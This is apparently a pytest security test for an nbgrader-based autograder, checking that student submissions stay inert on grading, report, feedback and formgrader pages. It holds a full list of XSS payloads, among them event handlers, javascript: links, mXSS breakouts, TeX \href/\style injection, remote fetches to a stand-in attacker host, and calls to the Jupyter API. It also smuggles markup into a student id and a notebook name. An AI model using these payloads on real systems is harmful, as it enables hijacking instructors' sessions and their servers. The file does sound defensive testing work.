"""Student content is inert on every page an instructor or TA opens (issue 23, requirement 1).

Written as the attacker: a submission whose written answers, added cells, outputs, attachments,
exception messages, student id and notebook name carry the vectors below, graded by the grade
command and by the real nbgrader commands, then every page opened in Chromium: the grading guide,
the class report (with its similar submissions), both kinds of feedback page and formgrader
(a real Jupyter server with nbgrader's extension, its requests recorded from its own log). On
each, no vector may run script (``window.pwned``, a dialog), fetch anything from another origin
(every request the page makes is routed and recorded), or call the server's API; and the TA
still reads the answer's text and its typeset math. Controls show each defence is one: the same
vectors, rendered raw, fire; the old typesetting makes the live links; formgrader without the
project's filters runs them and calls its own API.
"""

from __future__ import annotations

import base64
import html
import os
import re
import shutil
import subprocess
import time
import urllib.request
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlparse

import nbformat
import pytest
from conftest import build_course, nbgrader, stop_group, write_submission
from corpus import CORPUS, typed
from nbgrader.api import Gradebook
from pages import PATIENCE_MS
from ports import free_port

from autograder import notebooks
from autograder.course_build.release import nbgrader_env
from autograder.outputs.typeset import MATHJAX, Typesetter
from autograder.paths import ASSIGNMENT, RELEASE_DIR, ROOT
from autograder.untrusted import CSP_META, clean_html, plain_name, with_csp

EVIL = (
    "attacker.test"  # every outside request a vector makes goes here, and is recorded
)


def js(tag: str) -> str:
    """What a vector runs: marks the page and calls the Jupyter server's API (as the attack on
    formgrader did), both named after the vector."""
    return (
        f"top.pwned=(top.pwned||'')+'{tag} ';"
        f"fetch('/api/contents/pwned-{tag}').catch(function(){{}})"
    )


# name -> markdown/HTML a student writes. "JS" becomes js(name), "MARK" the mark alone (where an
# unquoted attribute allows no space); "EVIL" the attacker's origin.
VECTORS = {
    "img-onerror": '<img src="x" onerror="JS">',
    "svg-onload": '<svg onload="JS"><circle r="1"/></svg>',
    "svg-script": "<svg><script>JS</script></svg>",
    "script": "<script>JS</script>",
    "iframe-srcdoc": '<iframe srcdoc="<script>JS</script>"></iframe>',
    "iframe-js": '<iframe src="javascript:JS"></iframe>',
    "iframe-remote": '<iframe src="http://EVIL/iframe-remote"></iframe>',
    "object": '<object data="http://EVIL/object"></object>',
    "embed": '<embed src="http://EVIL/embed">',
    "a-javascript": '<a href="javascript:JS">read more</a>',
    "a-entity-javascript": '<a href="jav&#x61;script:JS">read on</a>',
    "md-link-javascript": "[click here](javascript:JS)",
    "style-attr-url": '<div style="background:url(http://EVIL/style-attr-url)">x</div>',
    "style-import": "<style>@import url(http://EVIL/style-import);</style>",
    "style-body": "<style>body{background:url(http://EVIL/style-body)}</style>",
    "link-stylesheet": '<link rel="stylesheet" href="http://EVIL/link-stylesheet">',
    "img-remote": '<img src="http://EVIL/img-remote" alt="a">',
    "img-srcset": '<img srcset="http://EVIL/img-srcset 1x" alt="b">',
    "md-image-remote": "![c](http://EVIL/md-image-remote)",
    "details-ontoggle": '<details open ontoggle="JS"><summary>s</summary></details>',
    "input-autofocus": '<input autofocus onfocus="JS">',
    "audio-onerror": '<audio src="x" onerror="JS"></audio>',
    "video-source": '<video><source onerror="JS"></video>',
    "svg-animate": '<svg><animate onbegin="JS" attributeName="x" dur="1s"/></svg>',
    "svg-use-remote": '<svg><use href="http://EVIL/svg-use-remote#a"/></svg>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=http://EVIL/meta-refresh">',
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=MARK>"></noscript>',
    "comment-breakout": "<!--><img src=x onerror=MARK>-->",
    "math-html": '$x <img src="x" onerror="JS"> y$',
    "tex-href": r"$\href{javascript:JS}{\text{see the proof}}$",
    "tex-href-remote": r"$\href{http://EVIL/tex-href-remote}{z}$",
    "tex-style": r"$\style{background-image:url(http://EVIL/tex-style)}{w}$",
    "tex-bbox": r"$\bbox[background-image:url(http://EVIL/tex-bbox)]{v}$",
    "tex-class": r"$\class{pwned-class}{u}$",
    "tex-require": r"$\require{http://EVIL/tex-require.js}$",
    "tex-unicode": r"$\unicode[pwned; http://EVIL/tex-unicode]{x41}$",
}
TEX = tuple(name for name in VECTORS if name.startswith("tex-"))
# The honest part of each answer: what the TA must still read, and a formula to see typeset.
HONEST = "Each output channel sums the cross-correlations of all input channels."
FORMULA = r"$\sum_{i=1}^{c_i} X_i \star K_i$"


def vector(name: str) -> str:
    mark = f"top.pwned=(top.pwned||'')+'{name}'"
    return (
        VECTORS[name]
        .replace("JS", js(name))
        .replace("MARK", mark)
        .replace("EVIL", EVIL)
    )


def answers() -> dict[str, str]:
    """The attacker's written answers: the vectors spread over them, after an honest start."""
    ids = sorted(g for g in typed(CORPUS["honest_loops"]) if g.startswith("answer_"))
    names = list(VECTORS)
    return {
        grade_id: f"{HONEST} {FORMULA}\n\n"
        + "\n\n".join(vector(n) for n in names[i :: len(ids)])
        for i, grade_id in enumerate(ids)
    }


# Outputs a student's own cells could carry (nbgrader clears them; the filters would not need it).
OUTPUT_VECTORS = {
    "output-html": ("text/html", '<img src="x" onerror="JS">'),
    "output-svg": (
        "image/svg+xml",
        '<svg onload="JS" xmlns="http://www.w3.org/2000/svg"/>',
    ),
    "output-markdown": ("text/markdown", '<img src="x" onerror="JS">'),
    "output-javascript": ("application/javascript", "JS"),
}
MARKUP_ID = "<img src=x onerror=top.pwned=(top.pwned||'')+'student-id'>"
MARKUP_NOTEBOOK = "<svg onload=top.pwned=(top.pwned||'')+'notebook-name'>.ipynb"


def attack(course: Path) -> None:
    """Write the attacker's submission and the one with markup for a student id."""
    solved = typed(CORPUS["honest_loops"])
    # A code answer that fails with markup in its message (the feedback quotes it).
    solved["compose_kernels"] = (
        "def compose_kernels(K1, K2):\n"
        '    print(\'<script>top.pwned=(top.pwned||"")+"printed "</script>\')\n'
        '    raise ValueError(\'<img src=x onerror=top.pwned=(top.pwned||"")+"raised ">\')\n'
    )
    dest = write_submission(course, "attacker", solved | answers())
    path = dest / "05-exercises.ipynb"
    nb = notebooks.read(path)
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
    svg += b"</svg>"
    nb.cells += [
        nbformat.v4.new_markdown_cell(
            f"{vector('img-onerror')} an added cell ![evil](attachment:evil.svg)",
            attachments={"evil.svg": {"image/svg+xml": base64.b64encode(svg).decode()}},
        ),
        nbformat.v4.new_raw_cell(
            vector("svg-onload").replace("svg-onload", "raw-cell"),
            metadata={"raw_mimetype": "text/html"},
        ),
        nbformat.v4.new_code_cell(
            "1",
            outputs=[
                nbformat.v4.new_output(
                    "display_data", data={mime: text.replace("JS", js(name))}
                )
                for name, (mime, text) in OUTPUT_VECTORS.items()
            ],
        ),
    ]
    nb.cells[-1].metadata["tags"] = ['x"><img src=x onerror="' + js("cell-tag") + '">']
    notebooks.write(nb, path)
    shutil.copy(path, dest / MARKUP_NOTEBOOK)
    # Files beside the notebooks, which formgrader serves from its own origin.
    (dest / "evil.html").write_text(f"<script>{js('served-html')}</script>")
    (dest / "evil.svg").write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("served-svg")}"/>'
    )
    (dest / "notes.txt").write_text("a plain file, copied as before")
    # Its code crashes, so that the class report lists (and links) it among the submissions
    # to look at.
    write_submission(course, MARKUP_ID, typed(CORPUS["hostile_os_exit"]))


# ---------------------------------------------------------------- fast: the allow-list itself


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def _risky(html: str) -> list[str]:
    """What in ``html`` could run or fetch: a tag, handler, style or URL outside the allow-list."""
    parser = _Tags()
    parser.feed(html)
    risky = []
    for tag, attrs in parser.found:
        if tag in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "svg",
            "link",
            "meta",
        }:
            risky.append(tag)
        for name, value in attrs.items():
            value = value or ""
            if name.startswith("on") or name in {"style", "srcset", "srcdoc", "action"}:
                risky.append(f"{tag} {name}")
            if name == "src" and not value.startswith("data:image/png"):
                risky.append(f"{tag} src={value}")
            if name == "href" and not value.startswith(("#", "https://", "http://")):
                risky.append(f"{tag} href={value}")
            if name == "href" and EVIL in value and tag != "a":
                risky.append(f"{tag} href={value}")
    return risky


@pytest.mark.parametrize("name", list(VECTORS))
def test_the_allow_list_leaves_nothing_that_runs_or_fetches(name):
    raw = vector(name)
    assert _risky(raw) or name.startswith(
        ("tex-", "md-", "math-", "comment", "noscript")
    ), raw
    assert _risky(clean_html(raw)) == []


def test_the_allow_list_keeps_text_structure_and_embedded_images():
    png = "data:image/png;base64,iVBORw0KGgo="
    kept = clean_html(
        f"<h2>Why</h2><p>It <em>sums</em> $x&lt;y$ over <code>c_i</code>.</p>"
        f'<img src="{png}" alt="plot"><table><tr><td>1</td></tr></table>'
    )
    for part in (
        "<h2",
        "<em>sums</em>",
        "$x&lt;y$",
        "<code>c_i</code>",
        png,
        "<td>1</td>",
    ):
        assert part in kept


def test_only_plain_student_ids_are_graded_by_nbgrader():
    assert plain_name("s1234567") and plain_name("ada.lovelace@uni.example")
    for bad in (MARKUP_ID, "../x", "", "a b", 'x"y', "é" * 3):
        assert not plain_name(bad), bad


def test_the_policy_comes_before_anything_else_in_the_head():
    page = "<!doctype html><html lang='en'><head><title>t</title><style>p{}</style>"
    assert with_csp(page).index(CSP_META) < with_csp(page).index("<title>")
    assert with_csp("<html><p>x").startswith("<html>" + CSP_META)


needs_mathjax = pytest.mark.skipif(
    shutil.which("node") is None or not MATHJAX.is_dir(),
    reason="Node.js and node_modules/mathjax-full (make setup) typeset the math",
)


@needs_mathjax
def test_student_tex_typesets_without_links_styles_classes_or_requests():
    with Typesetter() as t:
        out = t.typeset("\n".join(f"<p>{vector(n)}</p>" for n in TEX), fragment=True)
        honest = t.typeset(f"<p>{FORMULA}</p>", fragment=True)
    assert "<mjx-container" in out and "<mjx-container" in honest
    hrefs = re.findall(r'\bhref="([^"]*)"', out)
    assert all(h.startswith("#") for h in hrefs), hrefs
    assert EVIL not in "".join(re.findall(r'(?:href|src|style)="[^"]*"', out))
    assert "pwned-class" not in re.findall(r'class="([^"]*)"', out)


@needs_mathjax
def test_an_image_a_page_leaves_undescribed_gets_nbconverts_placeholder_alt():
    """The feedback exporter skips nbconvert's second parse of each page (feedback_pages.py):
    what that parse did to stock nbgrader's feedback pages, an alt for each image without one
    (a plot a student's code drew), the typesetter does."""
    plot = '<img src="data:image/png;base64,iVBORw0KGgo=">'
    described = '<img alt="the kernel K" src="data:image/png;base64,iVBORw0KGgo=">'
    with Typesetter() as t:
        out = t.typeset(f"<html><head></head><body>{plot}{described}</body></html>")
    assert re.findall(r'<img [^>]*alt="([^"]*)"', out) == [
        "No description has been provided for this image",
        "the kernel K",
    ]


# ---------------------------------------------------------------- the browser and its probe


# Synthetic clicks on every javascript: link, as a TA reading the answer might click it.
CLICK_LINKS = r"""() => { for (const a of document.querySelectorAll("a")) {
  const h = a.getAttribute("href")
    || a.getAttributeNS("http://www.w3.org/1999/xlink", "href") || "";
  if (/^\s*j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t\s*:/i.test(h))
    a.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true}));
} }"""


MARK_SETTER = """(() => { let marks = "";
  Object.defineProperty(window, "pwned", { configurable: true,
    get() { return marks; },
    set(value) { value = String(value);
                 const added = value.startsWith(marks) ? value.slice(marks.length) : value;
                 marks = value + " ";
                 window.__pwned(added); } });
})();"""


class Probe:
    """A page opened as the TA opens it, with what student content made it do."""

    def __init__(self, browser, url: str, own: str) -> None:
        self.context = browser.new_context()
        self.context.set_default_timeout(PATIENCE_MS)
        self.outside: list[str] = []
        self.dialogs: list[str] = []
        self.marks: list[str] = []
        # Each vector's mark reaches the test the moment it is set, in any frame, whatever the
        # page does afterwards.
        self.context.expose_binding(
            "__pwned", lambda _, v: self.marks.extend(v.split())
        )
        self.context.add_init_script(MARK_SETTER)
        self.context.route("**/*", self._route)
        self.page = self.context.new_page()
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        self.own = own
        self.page.goto(url, wait_until="load")
        self.page.wait_for_timeout(700)
        self.page.evaluate(CLICK_LINKS)
        self.page.wait_for_timeout(700)

    def _route(self, route) -> None:
        url = route.request.url
        if url.startswith(self.own) or url.startswith(("data:", "blob:", "about:")):
            route.continue_()
            return
        self.outside.append(url)
        if route.request.is_navigation_request():
            route.fulfill(status=204)  # "no content": the page stays where it is
        else:
            route.abort()

    def fired(self) -> set[str]:
        """Every vector that ran script, fetched outside, or restyled with its class."""
        marks = self.marks
        fetched = [
            urlparse(u).path.strip("/").split(".")[0]
            for u in self.outside
            if urlparse(u).hostname == EVIL
        ]
        classed = self.page.evaluate("!!document.querySelector('.pwned-class')")
        return set(marks) | set(fetched) | ({"tex-class"} if classed else set())

    def text(self) -> str:
        return self.page.inner_text("body")

    def close(self) -> None:
        self.context.close()


def honest_math_typeset(probe: Probe) -> int:
    """How many typeset formulas (SVG) the page shows; none may leave raw TeX of the honest one."""
    return probe.page.locator("mjx-container svg").count()


# ---------------------------------------------------------------- the graded course


@pytest.fixture(scope="module")
def course(tmp_path_factory, warm_sandbox) -> Path:
    """The attacker's course graded by the grade command (out/) and by stock nbgrader."""
    from autograder.__main__ import class_files
    from autograder.batch import grade_batch
    from autograder.sandbox.runner import Limits

    root = tmp_path_factory.mktemp("attacked-course")
    build_course(root, {})
    attack(root)
    results = grade_batch(
        root / "submitted", root / "out", sandbox=warm_sandbox(Limits())
    )
    class_files(root / "submitted", root / "out", results)
    nbgrader(root, "generate_assignment", ASSIGNMENT, "--force")
    nbgrader(root, "autograde", ASSIGNMENT, "--student", "attacker")
    refused = subprocess.run(
        [*NBGRADER, "autograde", ASSIGNMENT, "--student", MARKUP_ID],
        cwd=root,
        env=nbgrader_env(),
        capture_output=True,
        text=True,
    )
    assert (
        refused.returncode != 0
        and "not grading the student id" in refused.stdout + refused.stderr
    )
    nbgrader(root, "generate_feedback", ASSIGNMENT)
    return root


NBGRADER = [str(ROOT / ".venv" / "bin" / "python"), "-m", "nbgrader"]


def project_pages(course: Path) -> dict[str, Path]:
    out = course / "out"
    pages = {
        "grading guide": out / "guide.html",
        "class report": out / "report.html",
        "feedback (grade command)": out / "feedback" / "attacker.html",
        "feedback (grade command, markup id)": out / "feedback" / f"{MARKUP_ID}.html",
    }
    for page in sorted((course / "feedback" / "attacker" / ASSIGNMENT).glob("*.html")):
        pages[f"feedback (nbgrader) {page.name}"] = page
    return pages


@pytest.mark.slow
@pytest.mark.sandbox
def test_no_vector_runs_or_fetches_on_any_page_the_project_writes(browser, course):
    pages = project_pages(course)
    assert len(pages) == 4 + len(list(RELEASE_DIR.glob("*.ipynb")))
    for label, path in pages.items():
        assert path.is_file(), label
        assert CSP_META in path.read_text(encoding="utf-8"), label
        probe = Probe(browser, path.as_uri(), "file://")
        try:
            assert (probe.fired(), probe.dialogs, probe.outside) == (set(), [], []), (
                label
            )
        finally:
            probe.close()


@pytest.mark.slow
@pytest.mark.sandbox
def test_the_ta_still_reads_each_answer_and_its_math(browser, course):
    for label, path in {
        "grading guide": course / "out" / "guide.html",
        "feedback (nbgrader)": course
        / "feedback"
        / "attacker"
        / ASSIGNMENT
        / "05-exercises.html",
    }.items():
        probe = Probe(browser, path.as_uri(), "file://")
        try:
            text = probe.text()
            assert text.count(HONEST) >= len(answers()), label
            assert r"\sum_" not in text and "X_i" not in text, label  # typeset, not raw
            assert honest_math_typeset(probe) >= len(answers()), label
        finally:
            probe.close()
    feedback = (course / "out" / "feedback" / "attacker.html").read_text(
        encoding="utf-8"
    )
    assert html.escape(MARKUP_NOTEBOOK) in feedback  # named, as text
    report = (course / "out" / "report.html").read_text(encoding="utf-8")
    assert "Similar submissions" in report
    assert html.escape(MARKUP_ID) in report  # listed, as text


# ---------------------------------------------------------------- controls: the defences matter


@pytest.mark.slow
def test_control_the_same_vectors_rendered_raw_do_fire(browser, tmp_path):
    """Without the allow-list and the policy (the page before this change), they run and fetch."""
    raw = tmp_path / "raw.html"
    raw.write_text(
        "<!doctype html><html><head><meta charset='utf-8'></head><body>"
        + "\n".join(
            f"<div>{vector(n)}</div>"
            for n in VECTORS
            if not n.startswith(("tex", "md"))
        )
        + "</body></html>"
    )
    probe = Probe(browser, raw.as_uri(), "file://")
    fired = probe.fired()
    probe.close()
    expected = {
        "img-onerror", "svg-onload", "svg-script", "script", "iframe-srcdoc", "object",
        "embed", "a-javascript", "a-entity-javascript", "style-attr-url", "style-import",
        "style-body", "link-stylesheet", "img-remote", "img-srcset", "details-ontoggle",
        "input-autofocus", "audio-onerror", "math-html", "comment-breakout", "iframe-remote",
        "meta-refresh",
    }  # fmt: skip
    assert expected <= fired, expected - fired
    # The same page with the policy alone: nothing runs, nothing is fetched. (A policy does
    # not govern navigation: only the allow-list removes the <meta> refresh.)
    raw.write_text(with_csp(raw.read_text()))
    probe = Probe(browser, raw.as_uri(), "file://")
    assert probe.fired() == {"meta-refresh"}
    assert [urlparse(u).path for u in probe.outside] == ["/meta-refresh"]
    probe.close()


def nbconvert_page(course: Path, tmp_path: Path, config) -> Path:
    """The attacker's submitted notebook (outputs, tags, attachment, raw cell as submitted)
    rendered by nbconvert's classic template, which formgrader's and the feedback's extend."""
    from nbconvert.exporters import HTMLExporter

    exporter = HTMLExporter(config=config, template_name="classic")
    submitted = course / "submitted" / "attacker" / ASSIGNMENT / "05-exercises.ipynb"
    page, _ = exporter.from_filename(str(submitted))
    out = tmp_path / f"nbconvert-{len(list(tmp_path.iterdir()))}.html"
    out.write_text(page, encoding="utf-8")
    return out


@pytest.mark.slow
@pytest.mark.sandbox
def test_outputs_raw_cells_and_attachments_are_inert_under_the_course_config(
    browser, course, tmp_path
):
    """nbgrader clears a submission's outputs before formgrader shows it; the course's filters
    do not rely on that. With them, nothing fires (and no policy helps here); without them, the
    HTML and markdown outputs and the added markdown cell run (stock nbconvert already cleans a
    raw cell, with bleach)."""
    from traitlets.config import Config
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
    probe = Probe(browser, nbconvert_page(course, tmp_path, config).as_uri(), "file://")
    try:
        # (The classic template itself asks CDNs for require.js and jQuery: not the student.)
        attacker = [u for u in probe.outside if urlparse(u).hostname == EVIL]
        assert (probe.fired(), probe.dialogs, attacker) == (set(), [], [])
        assert HONEST in probe.text()
    finally:
        probe.close()
    probe = Probe(
        browser, nbconvert_page(course, tmp_path, Config()).as_uri(), "file://"
    )
    fired = probe.fired()
    probe.close()
    assert {"output-html", "output-markdown", "img-onerror"} <= fired, fired


@pytest.mark.slow
@pytest.mark.sandbox
def test_control_formgrader_prints_a_student_id_as_markup(browser, course, tmp_path):
    """Why nbgrader autograde refuses an id that is not plain: formgrader's submission view,
    rendered as its handler renders it (its template, the course's configuration), runs one."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader("nbgrader_config.py", path=str(ROOT)).load_config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {
        "assignment_id": ASSIGNMENT, "notebook_id": "05-exercises", "submission_id": "1",
        "index": 0, "total": 1, "base_url": "", "student": MARKUP_ID, "last_name": None,
        "first_name": None, "notebook_path": "autograded/x/05-exercises.ipynb",
    }  # fmt: skip
    autograded = course / "autograded" / "attacker" / ASSIGNMENT / "05-exercises.ipynb"
    page, _ = HTMLExporter(config=config).from_filename(str(autograded), resources)
    (tmp_path / "view.html").write_text(page, encoding="utf-8")
    probe = Probe(browser, (tmp_path / "view.html").as_uri(), "file://")
    fired = probe.fired()
    probe.close()
    assert fired == {"student-id"}, fired  # the answers themselves stay inert


UNSAFE_TEX = r"""
import { createRequire } from "node:module";
const require = createRequire(process.argv[2] + "/");
const { mathjax } = require("mathjax-full/js/mathjax.js");
const { TeX } = require("mathjax-full/js/input/tex.js");
const { SVG } = require("mathjax-full/js/output/svg.js");
const { liteAdaptor } = require("mathjax-full/js/adaptors/liteAdaptor.js");
const { RegisterHTMLHandler } = require("mathjax-full/js/handlers/html.js");
const { AllPackages } = require("mathjax-full/js/input/tex/AllPackages.js");
const adaptor = liteAdaptor();
RegisterHTMLHandler(adaptor);
const doc = mathjax.document(require("node:fs").readFileSync(0, "utf8"), {
  InputJax: new TeX({
    packages: AllPackages.filter((n) => n !== "bussproofs"),
    inlineMath: [["$", "$"], ["\\(", "\\)"]],
    processEscapes: true,
  }),
  OutputJax: new SVG({ fontCache: "local" }),
});
doc.render();
process.stdout.write(adaptor.outerHTML(adaptor.root(doc.document)));
"""


@pytest.mark.slow
@needs_mathjax
def test_control_tex_typeset_as_before_makes_live_links_and_requests(browser, tmp_path):
    """The guide's old typesetting (every package, no safe extension): \\href runs, \\style
    fetches. The same TeX through the project's typesetter: neither."""
    script = tmp_path / "unsafe.mjs"
    script.write_text(UNSAFE_TEX)
    page = "<!doctype html><html><body>" + "".join(f"<p>{vector(n)}</p>" for n in TEX)
    page += "</body></html>"
    before = subprocess.run(
        ["node", str(script), str(ROOT)],
        input=page,
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    (tmp_path / "before.html").write_text(before)
    probe = Probe(browser, (tmp_path / "before.html").as_uri(), "file://")
    fired = probe.fired()
    probe.close()
    assert {"tex-href", "tex-style", "tex-class"} <= fired, fired
    with Typesetter() as t:
        (tmp_path / "after.html").write_text(t.typeset(page))
    probe = Probe(browser, (tmp_path / "after.html").as_uri(), "file://")
    assert (probe.fired(), probe.outside) == (set(), [])
    probe.close()


# ---------------------------------------------------------------- formgrader


REQUEST = re.compile(r"\] \d{3} (GET|POST|PUT|PATCH|DELETE|HEAD|OPTIONS) (\S+) \(")


class Formgrader:
    """A Jupyter server with nbgrader's formgrader on the course, as the README starts it
    (the course's jupyter_server_config.py through JUPYTER_CONFIG_PATH), logging every
    request it receives."""

    TOKEN = "inert-pages-test"

    def __init__(self, course: Path) -> None:
        self.port = free_port()
        self.log = course / f"server-{self.port}.log"
        env = nbgrader_env() | {
            "JUPYTER_CONFIG_PATH": str(course),
            "JUPYTER_CONFIG_DIR": str(course / "home" / "jupyter"),
            "HOME": str(course / "home"),
        }
        args = [
            str(ROOT / ".venv" / "bin" / "jupyter"), "server", "--no-browser",
            f"--port={self.port}", f"--IdentityProvider.token={self.TOKEN}",
            "--ServerApp.log_level=DEBUG", "--ServerApp.open_browser=False",
        ]  # fmt: skip
        if os.geteuid() == 0:
            args.append("--allow-root")
        with self.log.open("w") as log:
            self.process = subprocess.Popen(
                args,
                cwd=course,
                env=env,
                stdout=log,
                stderr=log,
                start_new_session=True,
            )
        self.base = f"http://127.0.0.1:{self.port}"
        deadline = time.monotonic() + 90
        while True:
            try:
                urllib.request.urlopen(
                    f"{self.base}/api/status?token={self.TOKEN}", timeout=5
                )
                break
            except OSError:
                assert self.process.poll() is None, self.log.read_text()[-3000:]
                assert time.monotonic() < deadline, self.log.read_text()[-3000:]
                time.sleep(0.3)

    def requests(self) -> list[tuple[str, str]]:
        return REQUEST.findall(self.log.read_text())

    def close(self) -> None:
        stop_group(self.process)


def submission_id(course: Path, student: str, notebook: str = "05-exercises") -> str:
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        return gb.find_submission_notebook(notebook, ASSIGNMENT, student).id


def api_calls_by_students(server: Formgrader) -> list[tuple[str, str]]:
    return [(m, uri) for m, uri in server.requests() if "pwned" in uri]


def open_formgrader(browser, server: Formgrader, path: str) -> Probe:
    return Probe(browser, f"{server.base}{path}?token={server.TOKEN}", server.base)


@pytest.mark.slow
@pytest.mark.sandbox
def test_formgrader_runs_no_vector_and_its_server_sees_no_call_from_one(
    browser, course
):
    server = Formgrader(course)
    try:
        with urllib.request.urlopen(
            f"{server.base}/formgrader?token={server.TOKEN}"
        ) as r:
            policy = r.headers["Content-Security-Policy"]
        assert "default-src 'self'" in policy and "connect-src 'self'" in policy
        views = {
            "submission": f"/formgrader/submissions/{submission_id(course, 'attacker')}/",
            "notebook's submissions": f"/formgrader/gradebook/{ASSIGNMENT}/05-exercises",
            "students": "/formgrader/manage_students",
            "student's assignment": f"/formgrader/manage_students/attacker/{ASSIGNMENT}",
            "assignment's submissions": f"/formgrader/manage_submissions/{ASSIGNMENT}",
        }
        for label, path in views.items():
            probe = open_formgrader(browser, server, path)
            try:
                assert (probe.fired(), probe.dialogs, probe.outside) == (
                    set(),
                    [],
                    [],
                ), label
                if label == "submission":
                    text = probe.text()
                    assert text.count(HONEST) == len(answers())
                    assert r"\sum_" not in text
                    assert honest_math_typeset(probe) >= len(answers())
                    assert "Student's answer" in text
            finally:
                probe.close()
        assert api_calls_by_students(server) == []
        # The student's HTML and SVG files were not copied for formgrader to serve; others were.
        autograded = course / "autograded" / "attacker" / ASSIGNMENT
        assert (autograded / "notes.txt").is_file()
        for name in ("evil.html", "evil.svg"):
            assert not (autograded / name).exists()
            probe = open_formgrader(browser, server, f"{views['submission']}{name}")
            assert probe.fired() == set()
            probe.close()
        # The record is live: a call the page itself makes is in it.
        probe = open_formgrader(browser, server, views["students"])
        probe.page.evaluate("fetch('/api/contents/pwned-probe')")
        probe.page.wait_for_timeout(500)
        probe.close()
        assert api_calls_by_students(server) == [("GET", "/api/contents/pwned-probe")]
    finally:
        server.close()


@pytest.mark.slow
@pytest.mark.sandbox
def test_control_formgrader_without_the_filters_runs_them_against_its_api(
    browser, course
):
    """nbgrader's stock rendering (the course's filters and sanitize_html taken out): the
    answers run script with the instructor's session and call the server's API."""
    config = course / "nbgrader_config.py"
    kept = config.read_text()
    config.write_text(
        re.sub(
            r"c\.HTMLExporter\.sanitize_html = True|c\.HTMLExporter\.filters = \{.*?\}\n",
            "",
            kept,
            flags=re.S,
        )
    )
    try:
        server = Formgrader(course)
        try:
            path = f"/formgrader/submissions/{submission_id(course, 'attacker')}/"
            probe = open_formgrader(browser, server, path)
            fired = probe.fired()
            probe.close()
            assert {"img-onerror", "details-ontoggle", "a-javascript"} <= fired, fired
            assert ("GET", "/api/contents/pwned-img-onerror") in server.requests()
        finally:
            server.close()
    finally:
        config.write_text(kept)
